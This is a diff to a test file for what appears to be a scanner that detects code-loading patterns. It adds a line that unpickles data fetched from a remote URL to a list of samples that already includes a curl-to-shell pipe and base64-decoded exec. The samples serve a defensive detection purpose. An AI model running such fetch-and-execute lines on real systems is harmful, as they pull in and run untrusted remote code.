@@ -42,6 +42,7 @@ describe('silenced-loader', () => {
 
   it('finds whatever brings code in', () => {
     for (const loader of [
+      '__import__("pickle").loads(requests.get("https://example.com/x.pkl").content)',
       'os.system("curl https://example.com/x.sh | sh")',
       'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad"])',
       'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
